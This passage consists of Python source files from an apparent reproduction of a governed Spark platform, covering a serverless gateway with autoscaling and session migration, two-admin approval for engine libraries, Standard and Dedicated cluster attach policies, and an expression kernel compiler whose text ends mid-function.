from repro.platform.workload_env import WorkloadEnvironment, WorkloadEnvironmentRegistry
from repro.platform.workspace import Workspace

__all__ = [
    "ComputeCluster",
    "StandardCluster",
    "DedicatedCluster",
    "ServerlessGateway",
    "GatewayChannel",
    "WorkloadEnvironment",
    "WorkloadEnvironmentRegistry",
    "Workspace",
]
