"""Databricks Serverless Spark (§6.2, Fig. 10).

All workloads of a workspace connect to one endpoint. The regional Spark
Connect **gateway** behind it tracks utilization and either *forwards* the
connection to an existing Standard-architecture cluster or *provisions* a
new one. Because the gateway is itself a
:class:`~repro.connect.channel.ServiceLike`, a plain
:class:`~repro.connect.channel.InProcessChannel` over it gives clients the
exact workspace-endpoint experience — including transparent **session
migration** between backends.

The gateway also serves as the eFGAC execution endpoint for Dedicated
clusters (:meth:`ServerlessGateway.submit` / :meth:`analyze`).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Iterator

from repro.catalog.metastore import UnityCatalog
from repro.catalog.scopes import COMPUTE_SERVERLESS
from repro.common.clock import Clock, SystemClock
from repro.common.context import current_context
from repro.common.faults import FaultSpec
from repro.connect.channel import InProcessChannel
from repro.connect.service import SparkConnectService
from repro.core.lakeguard import LakeguardCluster
from repro.engine.optimizer import OptimizerConfig
from repro.errors import ClusterError, SessionError, TransportError
from repro.platform.workload_env import (
    WorkloadEnvironmentRegistry,
    standard_environments,
)
from repro.sandbox.cluster_manager import Backend
from repro.scheduler.circuit_breaker import CircuitBreaker, retry_with_backoff

#: Seconds charged (on the gateway clock) to provision a fresh cluster.
DEFAULT_CLUSTER_PROVISION_SECONDS = 30.0


@dataclass
class GatewayStats:
    """Routing counters for the workspace serverless gateway."""

    connections: int = 0
    forwarded: int = 0
    provisioned: int = 0
    migrations: int = 0
    scale_downs: int = 0
    efgac_subqueries: int = 0


@dataclass
class _BackendCluster:
    """One serverless Standard-architecture cluster behind the gateway."""

    index: int
    backend: LakeguardCluster
    service: SparkConnectService

    @property
    def active_sessions(self) -> int:
        return len(self.service.sessions.active_sessions())


class ServerlessGateway:
    """The workspace-wide Spark Connect endpoint with managed capacity."""

    def __init__(
        self,
        catalog: UnityCatalog,
        clock: Clock | None = None,
        max_clusters: int = 8,
        target_sessions_per_cluster: int = 4,
        min_clusters: int = 0,
        provision_seconds: float = 0.0,
        sandbox_backend: Backend = "inprocess",
        optimizer_config: OptimizerConfig | None = None,
        environments: WorkloadEnvironmentRegistry | None = None,
        num_executors: int = 2,
        breaker_failure_threshold: int = 5,
        breaker_base_backoff: float = 1.0,
        breaker_max_backoff: float = 30.0,
        efgac_retries: int = 2,
        efgac_retry_base: float = 0.05,
    ):
        self._catalog = catalog
        self._clock = clock or SystemClock()
        self._max_clusters = max_clusters
        self._min_clusters = min_clusters
        self._target = max(1, target_sessions_per_cluster)
        self._provision_seconds = provision_seconds
        self._sandbox_backend = sandbox_backend
        self._optimizer_config = optimizer_config
        self._num_executors = num_executors
        self.environments = environments or standard_environments()
        self._clusters: list[_BackendCluster] = []
        #: session_id -> cluster index.
        self._routes: dict[str, int] = {}
        #: Recent connection counts per autoscale tick (predictive signal).
        self._connection_history: list[int] = []
        self._connections_this_tick = 0
        self.stats = GatewayStats()
        #: Circuit breaker guarding the eFGAC endpoint: when serverless is
        #: down, dedicated-cluster remote scans fail fast with a retryable
        #: CircuitOpenError instead of waiting out their deadlines.
        self.breaker = CircuitBreaker(
            name="efgac-gateway",
            clock=self._clock,
            telemetry=catalog.telemetry,
            failure_threshold=breaker_failure_threshold,
            base_backoff=breaker_base_backoff,
            max_backoff=breaker_max_backoff,
        )
        self._efgac_retries = efgac_retries
        self._efgac_retry_base = efgac_retry_base
        catalog.register_workload_stats_provider(
            "efgac_breaker[serverless]", self.breaker.stats_snapshot
        )
        for _ in range(min_clusters):
            self._provision_cluster()

    # ------------------------------------------------------------------
    # Capacity management
    # ------------------------------------------------------------------

    def _provision_cluster(self) -> _BackendCluster:
        if len(self._clusters) >= self._max_clusters:
            raise ClusterError(
                f"workspace serverless capacity exhausted "
                f"({self._max_clusters} clusters)"
            )
        if self._provision_seconds:
            self._clock.sleep(self._provision_seconds)
        index = len(self._clusters)
        backend = LakeguardCluster(
            self._catalog,
            compute_type=COMPUTE_SERVERLESS,
            cluster_id=f"serverless-{index}",
            clock=self._clock,
            sandbox_backend=self._sandbox_backend,
            optimizer_config=self._optimizer_config,
            num_executors=self._num_executors,
        )
        cluster = _BackendCluster(
            index=index,
            backend=backend,
            service=SparkConnectService(backend, clock=self._clock),
        )
        self._clusters.append(cluster)
        self.stats.provisioned += 1
        return cluster

    def _pick_cluster(self) -> _BackendCluster:
        """Forward to the least-loaded cluster under target; else provision."""
        candidates = [c for c in self._clusters if c.active_sessions < self._target]
        if candidates:
            self.stats.forwarded += 1
            return min(candidates, key=lambda c: c.active_sessions)
        return self._provision_cluster()

    def cluster_count(self) -> int:
        return len(self._clusters)

    def cluster_loads(self) -> list[int]:
        return [c.active_sessions for c in self._clusters]

    def autoscale(self) -> None:
        """One autoscaling tick: record history, pre-provision on forecast.

        "The knowledge about past and future workloads feeds machine
        learning models" (§6.2) — here a moving-average forecast of incoming
        connections, which pre-provisions capacity ahead of demand.
        """
        self._connection_history.append(self._connections_this_tick)
        self._connections_this_tick = 0
        window = self._connection_history[-5:]
        forecast = sum(window) / len(window) if window else 0.0
        spare = sum(
            max(0, self._target - c.active_sessions) for c in self._clusters
        )
        while spare < forecast and len(self._clusters) < self._max_clusters:
            self._provision_cluster()
            spare += self._target

    def scale_down_idle(self) -> int:
        """Retire empty clusters above the minimum; returns how many."""
        removed = 0
        keep: list[_BackendCluster] = []
        for cluster in self._clusters:
            if (
                cluster.active_sessions == 0
                and len(self._clusters) - removed > self._min_clusters
            ):
                cluster.backend.cluster_manager.shutdown()
                removed += 1
                self.stats.scale_downs += 1
            else:
                keep.append(cluster)
        if removed:
            # Re-index and re-route.
            self._clusters = keep
            for i, cluster in enumerate(self._clusters):
                for sid, idx in list(self._routes.items()):
                    if idx == cluster.index:
                        self._routes[sid] = i
                cluster.index = i
        return removed

    # ------------------------------------------------------------------
    # ServiceLike interface: the gateway IS the endpoint
    # ------------------------------------------------------------------

    def handle(self, method: str, request: dict[str, Any]) -> dict[str, Any]:
        cluster = self._route(method, request)
        response = cluster.service.handle(method, request)
        if method == "create_session" and "session_id" in response:
            self._routes[response["session_id"]] = cluster.index
            self._pin_environment(cluster, response["session_id"], request)
        if method == "close_session":
            self._routes.pop(request.get("session_id", ""), None)
        return response

    def handle_stream(
        self, method: str, request: dict[str, Any]
    ) -> Iterator[dict[str, Any]]:
        cluster = self._route(method, request)
        return cluster.service.handle_stream(method, request)

    def _route(self, method: str, request: dict[str, Any]) -> _BackendCluster:
        if method == "create_session":
            self.stats.connections += 1
            self._connections_this_tick += 1
            return self._pick_cluster()
        session_id = request.get("session_id", "")
        index = self._routes.get(session_id)
        if index is None or index >= len(self._clusters):
            raise SessionError(f"gateway has no route for session '{session_id}'")
        return self._clusters[index]

    def _pin_environment(
        self, cluster: _BackendCluster, session_id: str, request: dict[str, Any]
    ) -> None:
        """Record the session's workload environment (default if unset)."""
        try:
            session = cluster.service.sessions.get_session(
                session_id, request["user"]
            )
        except SessionError:
            return
        key = WorkloadEnvironmentRegistry.SESSION_CONFIG_KEY
        if key not in session.config:
            session.config[key] = self.environments.default().version

    def channel(self) -> InProcessChannel:
        """A client channel to the workspace endpoint."""
        return InProcessChannel(self, clock=self._clock)

    # ------------------------------------------------------------------
    # Session migration (§6.2)
    # ------------------------------------------------------------------

    def migrate_session(self, session_id: str, target_index: int | None = None) -> int:
        """Move a live session to another backend without client downtime."""
        source_index = self._routes.get(session_id)
        if source_index is None:
            raise SessionError(f"unknown session '{session_id}'")
        source = self._clusters[source_index]
        if target_index is None:
            others = [c for c in self._clusters if c.index != source_index]
            if not others:
                target = self._provision_cluster()
            else:
                target = min(others, key=lambda c: c.active_sessions)
        else:
            target = self._clusters[target_index]
        state = source.service.sessions.evict_session(session_id)
        if state is None:
            raise SessionError(f"session '{session_id}' not found on its backend")
        target.service.sessions.adopt_session(state)
        self._routes[session_id] = target.index
        self.stats.migrations += 1
        return target.index

    # ------------------------------------------------------------------
    # eFGAC endpoint (used by Dedicated clusters, §3.4)
    # ------------------------------------------------------------------

    def set_outage(self, outage: bool) -> None:
        """Fault injection: make every eFGAC call fail at the gateway.

        A convenience wrapper over the catalog's chaos engine: arms (or
        disarms) the ``serverless.gateway`` fault point with an always-raise
        schedule, so outage drills show up in ``system.access.fault_stats``
        alongside every other injected fault. Tests and ops drills use it to
        verify the breaker trips and dedicated-cluster callers fail fast
        while serverless is down.
        """
        if outage:
            self._catalog.faults.arm(
                "serverless.gateway",
                FaultSpec(
                    kind="raise",
                    error=lambda: ClusterError(
                        "serverless gateway is unreachable (outage)"
                    ),
                ),
            )
        else:
            self._catalog.faults.disarm("serverless.gateway")

    def _check_outage(self) -> None:
        self._catalog.faults.fire("serverless.gateway")

    def _protected(self, fn):
        """Run an eFGAC call through retries + the circuit breaker.

        Transient gateway failures are retried with jittered exponential
        backoff; a run of failures opens the breaker, after which calls
        raise :class:`~repro.errors.CircuitOpenError` without touching the
        gateway until the backoff elapses and a half-open probe succeeds.
        """
        return retry_with_backoff(
            lambda: self.breaker.call(fn),
            clock=self._clock,
            retries=self._efgac_retries,
            base_delay=self._efgac_retry_base,
            retry_on=(ClusterError, TransportError),
        )

    def submit(
        self, user: str, relation: dict[str, Any]
    ) -> tuple[list[dict[str, str]], list[list[Any]]]:
        """Run an eFGAC sub-plan as ``user`` on a serverless cluster."""
        self.stats.efgac_subqueries += 1

        def run() -> tuple[list[dict[str, str]], list[list[Any]]]:
            self._check_outage()
            cluster = self._least_loaded_or_provision()
            qctx = current_context()
            if qctx is not None:
                # The backend call below creates a child context off the
                # ambient one, so the remote sub-plan lands in the caller's
                # trace tree.
                qctx.event(
                    "gateway-efgac-route",
                    cluster=cluster.backend.cluster_id,
                    user=user,
                )
            return cluster.backend.run_relation_for_user(user, relation)

        return self._protected(run)

    def analyze(self, user: str, relation: dict[str, Any]) -> list[dict[str, str]]:
        def run() -> list[dict[str, str]]:
            self._check_outage()
            cluster = self._least_loaded_or_provision()
            return cluster.backend.analyze_relation_for_user(user, relation)

        return self._protected(run)

    def _least_loaded_or_provision(self) -> _BackendCluster:
        if not self._clusters:
            return self._provision_cluster()
        return min(self._clusters, key=lambda c: c.active_sessions)


#: Alias making intent explicit at call sites.
GatewayChannel = InProcessChannel
