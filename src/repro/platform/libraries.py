"""Engine-adjacent library governance (§4.1).

"We support administrators in making conscious choices about installing
additional libraries on the cluster that interact directly with the core
Apache Spark engine ... a configuration process that requires the delegation
of explicit intent from both workspace and cluster administrators."

A library that loads *into the engine process* (not a sandbox) bypasses all
isolation, so it needs two independent approvals — one workspace-admin, one
cluster-admin — before the cluster will load it. Ordinary user libraries
never go through this: they install into per-user sandbox environments.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import PermissionDenied


@dataclass(frozen=True)
class LibraryApproval:
    """One admin's recorded sign-off on an engine library."""

    library: str
    approver: str
    role: str  # "workspace_admin" | "cluster_admin"


class EngineLibraryPolicy:
    """Two-person approval for libraries with engine access."""

    ROLES = ("workspace_admin", "cluster_admin")

    def __init__(self, workspace_admins: set[str], cluster_admins: set[str]):
        self._workspace_admins = set(workspace_admins)
        self._cluster_admins = set(cluster_admins)
        self._approvals: dict[str, dict[str, LibraryApproval]] = {}
        self._loaded: list[str] = []

    # -- approval workflow ---------------------------------------------------------

    def approve(self, library: str, approver: str) -> LibraryApproval:
        """Record one admin's explicit intent; role is derived from identity."""
        if approver in self._workspace_admins:
            role = "workspace_admin"
        elif approver in self._cluster_admins:
            role = "cluster_admin"
        else:
            raise PermissionDenied(approver, "APPROVE_ENGINE_LIBRARY", library)
        approval = LibraryApproval(library, approver, role)
        self._approvals.setdefault(library, {})[role] = approval
        return approval

    def revoke_approval(self, library: str, role: str) -> None:
        self._approvals.get(library, {}).pop(role, None)
        if library in self._loaded and not self.is_approved(library):
            self._loaded.remove(library)

    def is_approved(self, library: str) -> bool:
        """Approved iff *both* roles signed off (by possibly the same human
        only when that human holds both roles)."""
        roles = set(self._approvals.get(library, {}))
        return roles >= set(self.ROLES)

    def approvals_of(self, library: str) -> list[LibraryApproval]:
        return sorted(
            self._approvals.get(library, {}).values(), key=lambda a: a.role
        )

    # -- loading -----------------------------------------------------------------

    def load(self, library: str) -> None:
        """Load a library into the engine process — approvals required."""
        if not self.is_approved(library):
            missing = set(self.ROLES) - set(self._approvals.get(library, {}))
            raise PermissionDenied(
                "<cluster>", "LOAD_ENGINE_LIBRARY",
                f"{library} (missing approvals: {sorted(missing)})",
            )
        if library not in self._loaded:
            self._loaded.append(library)

    def loaded_libraries(self) -> list[str]:
        return list(self._loaded)
