"""Compute types (§4): Standard and Dedicated clusters.

Standard clusters are the fully governed multi-user compute: every user's
client code and UDFs run in sandboxes, FGAC is enforced locally, and any
number of identities share the hardware.

Dedicated clusters give one identity (a user, or — with automatic permission
down-scoping — a group) privileged machine access; they cannot enforce FGAC
locally, so governed relations route through eFGAC to serverless compute.
"""

from __future__ import annotations

from typing import Any, Callable

from repro.catalog.metastore import UnityCatalog
from repro.catalog.privileges import UserContext
from repro.catalog.scopes import COMPUTE_DEDICATED, COMPUTE_STANDARD
from repro.common.clock import Clock, SystemClock
from repro.connect.channel import InProcessChannel, LatencyModel
from repro.connect.client import SparkConnectClient
from repro.connect.proto import PROTOCOL_VERSION
from repro.connect.service import SparkConnectService
from repro.core.efgac import RemoteSubmit
from repro.core.lakeguard import LakeguardCluster
from repro.engine.optimizer import OptimizerConfig
from repro.errors import ClusterAttachDenied
from repro.sandbox.cluster_manager import Backend
from repro.sandbox.policy import SandboxPolicy
from repro.scheduler.workload import TenantPolicy


class ComputeCluster:
    """A governed cluster: Lakeguard backend + Spark Connect service."""

    def __init__(
        self,
        catalog: UnityCatalog,
        compute_type: str,
        name: str | None = None,
        clock: Clock | None = None,
        sandbox_backend: Backend = "inprocess",
        sandbox_policy: SandboxPolicy | None = None,
        optimizer_config: OptimizerConfig | None = None,
        num_executors: int = 2,
        batch_size: int = 4096,
        remote_submit: RemoteSubmit | None = None,
        remote_analyze: Callable[[str, dict[str, Any]], list[dict[str, str]]] | None = None,
        context_transform: Callable[[UserContext], UserContext] | None = None,
        provision_seconds: float = 0.0,
        interpreter_start_seconds: float = 0.0,
        engine_compile: bool = True,
        kernel_cache_capacity: int = 256,
        enable_plan_cache: bool = True,
        plan_cache_capacity: int = 128,
        enable_credential_cache: bool = True,
        sandbox_min_pool_size: int = 0,
        enable_workload_manager: bool = True,
        workload_slots: int = 16,
        workload_fair_share: bool = True,
        workload_admission_timeout: float = 30.0,
        workload_default_policy: TenantPolicy | None = None,
        scan_retries: int = 2,
        scan_retry_base_delay: float = 0.02,
        scan_hedge_after_seconds: float | None = None,
        udf_invoke_retry: bool = True,
        worker_backend: str | None = None,
        worker_pool_size: int | None = None,
        engine_fuse_operators: bool | None = None,
        store_backend: str = "memory",
        store_dir: str | None = None,
        result_cache_enabled: bool = False,
        dist_kv: Any = None,
    ):
        self.catalog = catalog
        self.clock = clock or SystemClock()
        self.name = name or f"{compute_type.lower()}-cluster"
        self.backend = LakeguardCluster(
            catalog,
            compute_type=compute_type,
            cluster_id=self.name,
            clock=self.clock,
            sandbox_backend=sandbox_backend,
            sandbox_policy=sandbox_policy,
            optimizer_config=optimizer_config,
            num_executors=num_executors,
            batch_size=batch_size,
            remote_submit=remote_submit,
            remote_analyze=remote_analyze,
            provision_seconds=provision_seconds,
            interpreter_start_seconds=interpreter_start_seconds,
            context_transform=self._transform_context,
            engine_compile=engine_compile,
            kernel_cache_capacity=kernel_cache_capacity,
            enable_plan_cache=enable_plan_cache,
            plan_cache_capacity=plan_cache_capacity,
            enable_credential_cache=enable_credential_cache,
            sandbox_min_pool_size=sandbox_min_pool_size,
            enable_workload_manager=enable_workload_manager,
            workload_slots=workload_slots,
            workload_fair_share=workload_fair_share,
            workload_admission_timeout=workload_admission_timeout,
            workload_default_policy=workload_default_policy,
            scan_retries=scan_retries,
            scan_retry_base_delay=scan_retry_base_delay,
            scan_hedge_after_seconds=scan_hedge_after_seconds,
            udf_invoke_retry=udf_invoke_retry,
            worker_backend=worker_backend,
            worker_pool_size=worker_pool_size,
            engine_fuse_operators=engine_fuse_operators,
            store_backend=store_backend,
            store_dir=store_dir,
            result_cache_enabled=result_cache_enabled,
            dist_kv=dist_kv,
        )
        self.service = SparkConnectService(self.backend, clock=self.clock)
        #: The backend's admission controller (None when disabled).
        self.workload_manager = self.backend.workload_manager
        self._context_transform = context_transform
        self.attached_users: set[str] = set()

    def shutdown(self) -> None:
        """Release the backend's pools (scan threads, worker processes)."""
        self.backend.shutdown()

    # -- attachment policy (subclasses refine) -------------------------------------

    def check_attach(self, user: str) -> None:
        """Raise :class:`ClusterAttachDenied` if the user may not attach."""

    def _transform_context(self, ctx: UserContext) -> UserContext:
        self.check_attach(ctx.user)
        self.attached_users.add(ctx.user)
        if self._context_transform is not None:
            ctx = self._context_transform(ctx)
        return ctx

    # -- connectivity ----------------------------------------------------------------

    def channel(
        self,
        latency: LatencyModel | None = None,
        faults: Any = None,
    ) -> InProcessChannel:
        """A wire-level channel to this cluster's Connect service.

        ``faults`` accepts either the legacy stream-cutting
        :class:`~repro.connect.channel.FaultInjector` or the systemwide
        chaos engine (:class:`repro.common.faults.FaultInjector`).
        """
        return InProcessChannel(
            self.service, clock=self.clock, latency=latency, faults=faults
        )

    def connect(
        self,
        user: str,
        client_version: int = PROTOCOL_VERSION,
        latency: LatencyModel | None = None,
        faults: Any = None,
        config: dict[str, str] | None = None,
    ) -> SparkConnectClient:
        """Attach a user: authentication happens inside create_session."""
        return SparkConnectClient(
            self.channel(latency, faults),
            user=user,
            client_version=client_version,
            config=config,
        )


class StandardCluster(ComputeCluster):
    """Multi-user governed compute (§4.1): anyone in the directory attaches."""

    def __init__(self, catalog: UnityCatalog, name: str | None = None, **kwargs: Any):
        super().__init__(
            catalog,
            compute_type=COMPUTE_STANDARD,
            name=name or "standard-cluster",
            **kwargs,
        )

    def check_attach(self, user: str) -> None:
        if not self.catalog.principals.is_user(user):
            raise ClusterAttachDenied(f"unknown user '{user}'")


class DedicatedCluster(ComputeCluster):
    """Single-identity privileged compute (§4.2).

    Assigned either to one user, or to one *group*: group members may attach
    but their permissions are automatically down-scoped to exactly the
    group's (original identity retained for auditing).
    """

    def __init__(
        self,
        catalog: UnityCatalog,
        assigned_user: str | None = None,
        assigned_group: str | None = None,
        name: str | None = None,
        **kwargs: Any,
    ):
        if (assigned_user is None) == (assigned_group is None):
            raise ClusterAttachDenied(
                "a dedicated cluster is assigned to exactly one user OR one group"
            )
        self.assigned_user = assigned_user
        self.assigned_group = assigned_group
        transform = kwargs.pop("context_transform", None)

        def down_scope(ctx: UserContext) -> UserContext:
            if assigned_group is not None:
                ctx = ctx.down_scoped_to(assigned_group)
            if transform is not None:
                ctx = transform(ctx)
            return ctx

        super().__init__(
            catalog,
            compute_type=COMPUTE_DEDICATED,
            name=name or "dedicated-cluster",
            context_transform=down_scope,
            **kwargs,
        )

    def check_attach(self, user: str) -> None:
        if self.assigned_user is not None:
            if user != self.assigned_user:
                raise ClusterAttachDenied(
                    f"dedicated cluster '{self.name}' is assigned to "
                    f"'{self.assigned_user}', not '{user}'"
                )
            return
        groups = self.catalog.principals.groups_of(user)
        if self.assigned_group not in groups:
            raise ClusterAttachDenied(
                f"dedicated cluster '{self.name}' is assigned to group "
                f"'{self.assigned_group}'; '{user}' is not a member"
            )
