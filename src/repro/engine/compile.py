"""Compiled expression kernels: lowering expression trees to Python code.

The interpreter in :mod:`repro.engine.expressions` re-walks the tree for
every batch and evaluates each node with a per-element ``zip`` loop, so the
hot path of every governed scan — row filters, column masks, secure-view
predicates — pays tree dispatch *per batch* and list-comprehension overhead
*per node per element*. This module removes that interpretation tax the way
Flare does for Spark plans: an analyzed expression list is lowered into one
generated-and-``compile()``d Python function that evaluates every output in
a single fused loop, with NULL checks short-circuited inline, constants
folded at lowering time, and common subexpressions computed once per row.

Trust boundaries stay intact by construction:

- :class:`~repro.engine.expressions.PythonUDFCall` nodes (and any node type
  this module does not recognize) are **opaque**: the kernel never inlines
  them. The bound wrapper pre-evaluates each opaque node through the normal
  interpreter — which consults ``ctx.udf_results``, so sandbox fusion
  semantics (one round-trip per fusion group) are byte-identical — and the
  generated code merely reads the resulting column.
- Kernels are pure functions of expression *structure*: the cache key is a
  structural fingerprint covering operators, literals, column positions and
  builtin names, never data or identity. Session identity still enters at
  run time through :class:`~repro.engine.expressions.EvalContext` (for
  ``CURRENT_USER()`` / group membership), exactly like the interpreter.
- Compiled kernels reach queries by riding the physical operator tree that
  is stored on a :class:`~repro.core.plan_cache.CachedSecurePlan`, so they
  are invalidated with the plan by the same catalog policy epoch; the
  :class:`KernelCache` itself is content-addressed and can never serve a
  structurally wrong artifact.

Any failure to lower (unknown shapes, codegen bugs, ``compile()`` errors)
is counted and reported as *no kernel*: callers keep the interpreter path,
so compilation is strictly an optimization, never a correctness risk.
"""

from __future__ import annotations

import hashlib
import os
import pickle
import threading
from collections import OrderedDict
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, Callable, Sequence

from repro.common.context import current_context, span_or_null
from repro.common.telemetry import Telemetry
from repro.engine.aggregates import AGGREGATE_FUNCTIONS
from repro.engine.batch import ONE_ROW, ColumnBatch
from repro.engine.expressions import (
    BUILTIN_FUNCTIONS,
    Alias,
    Arithmetic,
    BooleanOp,
    BoundRef,
    CaseWhen,
    Cast,
    Comparison,
    CurrentUser,
    EvalContext,
    Expression,
    FunctionCall,
    InList,
    IsAccountGroupMember,
    IsNull,
    Like,
    Literal,
    Not,
)

DEFAULT_KERNEL_CACHE_CAPACITY = 256

#: Debug knob: when set to a directory path, every generated kernel and
#: pipeline source is written there as ``kernel_<fingerprint>.py`` so the
#: exact code a query ran can be inspected offline.
ENV_DUMP_KERNELS = "LAKEGUARD_DUMP_KERNELS"


def _maybe_dump_source(fingerprint: str, source: str) -> None:
    """Write one generated source to ``$LAKEGUARD_DUMP_KERNELS`` (best
    effort: dump failures must never fail a compilation)."""
    directory = os.environ.get(ENV_DUMP_KERNELS, "").strip()
    if not directory:
        return
    try:
        target = Path(directory)
        target.mkdir(parents=True, exist_ok=True)
        (target / f"kernel_{fingerprint[:16]}.py").write_text(source + "\n")
    except OSError:
        pass

#: Node types the code generator knows how to inline. Matched by exact type,
#: not ``isinstance``: a subclass may override ``eval`` with semantics the
#: generator cannot see, so unknown subtypes fall back to opaque handling.
_COMPILABLE: tuple[type, ...] = (
    Literal,
    BoundRef,
    Alias,
    Cast,
    Not,
    IsNull,
    Arithmetic,
    Comparison,
    BooleanOp,
    InList,
    Like,
    CaseWhen,
    FunctionCall,
    CurrentUser,
    IsAccountGroupMember,
)
_COMPILABLE_SET = frozenset(_COMPILABLE)

#: Row-invariant leaves: compiling a projection made only of these would be
#: slower than the interpreter (``BoundRef.eval`` returns the column list
#: without copying; constants use ``[v] * n``), so such lists are skipped.
_TRIVIAL = (Literal, BoundRef, Alias, CurrentUser, IsAccountGroupMember)

#: Node types safe to fold to a literal when all children are literals
#: (mirrors the optimizer's ``_FOLDABLE``; all are deterministic built-ins).
_FOLDABLE = (Arithmetic, Comparison, BooleanOp, Not, FunctionCall, Cast, IsNull)

_CMP_TOKENS = {"=": "==", "!=": "!=", "<": "<", "<=": "<=", ">": ">", ">=": ">="}

#: How env-slot constants are rebuilt from a congruent tree's nodes.
_ENV_BUILDERS: dict[str, Callable[[Expression], Any]] = {
    "inlist": lambda node: node._value_set,  # noqa: SLF001 - engine-internal
    "like": lambda node: node._regex,  # noqa: SLF001 - engine-internal
    "cast": lambda node: node._cast_one,  # noqa: SLF001 - engine-internal
    "func": lambda node: BUILTIN_FUNCTIONS[node.name][0],
}


def _is_opaque(node: Expression) -> bool:
    """True when the generator must not inline this node (user code or an
    unknown node type); the wrapper pre-evaluates it via the interpreter."""
    return node.is_user_code or type(node) not in _COMPILABLE_SET


def has_opaque_nodes(exprs: Sequence[Expression]) -> bool:
    """True when any expression contains a node the generator cannot
    inline; the planner uses this to break fusion chains at UDF stages."""
    return any(_is_opaque(node) for node in _canonical_walk(exprs))


def _canonical_walk(exprs: Sequence[Expression]) -> list[Expression]:
    """Preorder walk over an expression list that does NOT descend into
    opaque subtrees.

    Fingerprint-congruent trees produce positionally aligned walks (opaque
    fingerprints ignore their subtree on purpose), which is what lets a
    cached artifact's env spec — ``(name, walk index, kind)`` triples — be
    rebound against any congruent tree.
    """
    order: list[Expression] = []

    def visit(node: Expression) -> None:
        order.append(node)
        if _is_opaque(node):
            return
        for child in node.children:
            visit(child)

    for expr in exprs:
        visit(expr)
    return order


def _node_signature(node: Expression) -> str:
    """Structural identity of one node, excluding children and excluding
    anything inside opaque subtrees (see :func:`_canonical_walk`)."""
    if _is_opaque(node):
        return "opaque"
    if isinstance(node, Literal):
        return f"lit:{type(node.value).__name__}:{node.value!r}"
    if isinstance(node, BoundRef):
        return f"ref:{node.index}"
    if isinstance(node, Alias):
        return "alias"
    if isinstance(node, Cast):
        return f"cast:{node.target.name}"
    if isinstance(node, Not):
        return "not"
    if isinstance(node, IsNull):
        return f"isnull:{int(node.negated)}"
    if isinstance(node, (Arithmetic, Comparison, BooleanOp)):
        return f"{type(node).__name__}:{node.op}"
    if isinstance(node, InList):
        return f"inlist:{int(node.negated)}:{node.values!r}"
    if isinstance(node, Like):
        return f"like:{int(node.negated)}:{node.pattern!r}"
    if isinstance(node, CaseWhen):
        return f"case:{node.num_branches}:{int(node.has_else)}"
    if isinstance(node, FunctionCall):
        return f"fn:{node.name}:{len(node.children)}"
    if isinstance(node, CurrentUser):
        return "current_user"
    if isinstance(node, IsAccountGroupMember):
        return f"group:{node.group!r}"
    raise TypeError(f"unhandled node type {type(node).__name__}")  # pragma: no cover


def expression_fingerprint(exprs: Sequence[Expression], mode: str = "project") -> str:
    """Structural sha256 of an expression list (the kernel-cache key).

    Two lists with equal fingerprints are congruent: same shapes, operators,
    literals and column positions everywhere the generator inlines code, and
    opaque slots in the same positions (whatever those slots compute).
    """
    digest = hashlib.sha256(f"{mode}|{len(exprs)}".encode())

    def visit(node: Expression) -> None:
        sig = _node_signature(node)
        n_children = 0 if _is_opaque(node) else len(node.children)
        digest.update(f"{sig}|{n_children};".encode())
        if _is_opaque(node):
            return
        for child in node.children:
            visit(child)

    for expr in exprs:
        visit(expr)
    return digest.hexdigest()


def _fold(node: Expression) -> Expression:
    """Constant-fold deterministic all-literal subtrees at lowering time.

    Unlike the optimizer's ``fold_expression`` this never descends into
    opaque subtrees: rebuilding a ``PythonUDFCall`` would mint a fresh
    ``expr_id`` and disconnect it from its fusion group's cached results.
    """
    if _is_opaque(node):
        return node
    new_children = tuple(_fold(c) for c in node.children)
    if new_children != node.children:
        node = node.with_children(new_children)
    if (
        isinstance(node, _FOLDABLE)
        and node.children
        and all(isinstance(c, Literal) for c in node.children)
        and node.deterministic
    ):
        try:
            folded = Literal(node.eval(ONE_ROW, EvalContext())[0])
        except Exception:  # noqa: BLE001 - keep runtime error semantics
            return node
        if node.dtype is not None and folded.dtype != node.dtype:
            # e.g. CAST(NULL AS INT) would fold to an *untyped* NULL literal
            # (STRING by default), and rebuilding a typed parent around it
            # re-runs type binding and fails. Keep the typed node instead.
            return node
        return folded
    return node


# ---------------------------------------------------------------------------
# Code generation
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class CompiledArtifact:
    """One cache entry: the generated function plus its rebinding recipe."""

    fingerprint: str
    source: str
    fn: Callable[[list[list[Any]], int, EvalContext, dict[str, Any], list[list[Any]]], list[list[Any]]]
    #: ``(env name, canonical walk index, builder kind)`` triples.
    env_spec: tuple[tuple[str, int, str], ...]
    #: Canonical walk indexes of opaque nodes, in slot order.
    opaque_spec: tuple[int, ...]
    num_outputs: int


class _SharedState:
    """State shared between the fast and checked code-generation passes.

    Per-row leaf loads (columns, opaque results) and row-invariant bindings
    (env constants, group membership, the user) are emitted once and used by
    both generated bodies; only the per-node computation code differs.
    """

    def __init__(self, walk_index: dict[int, int]):
        self.walk_index = walk_index  # id(node) -> canonical walk position
        self.prelude: list[str] = []
        #: Per-row leaf loads, emitted at the top of the loop body.
        self.loads: list[str] = []
        self.env_spec: list[tuple[str, int, str]] = []
        self.opaque_spec: list[int] = []
        #: Loaded leaf variables whose non-NULL-ness the fast path assumes.
        self.guard_vars: list[str] = []
        self._env_memo: dict[tuple[int, str], str] = {}
        self._cols_bound: set[int] = set()
        self._col_loads: dict[int, str] = {}
        self._opaque_slots: dict[int, int] = {}
        self._groups_bound: dict[str, str] = {}
        self.user_bound = False
        self.counter = 0

    def env(self, node: Expression, kind: str) -> str:
        walk_pos = self.walk_index[id(node)]
        memo = self._env_memo.get((walk_pos, kind))
        if memo is not None:
            return memo
        name = f"_e{len(self.env_spec)}"
        self.env_spec.append((name, walk_pos, kind))
        self.prelude.append(f"{name} = _env[{name!r}]")
        self._env_memo[(walk_pos, kind)] = name
        return name

    def column_value(self, index: int) -> str:
        """Per-row value of one input column, loaded once per row."""
        var = self._col_loads.get(index)
        if var is None:
            if index not in self._cols_bound:
                self._cols_bound.add(index)
                self.prelude.append(f"_c{index} = _cols[{index}]")
            var = f"_l{index}"
            self._col_loads[index] = var
            self.loads.append(f"{var} = _c{index}[_i]")
            self.guard_vars.append(var)
        return var

    def opaque_value(self, node: Expression) -> str:
        """Per-row value of one pre-evaluated opaque column."""
        walk_pos = self.walk_index[id(node)]
        slot = self._opaque_slots.get(walk_pos)
        if slot is None:
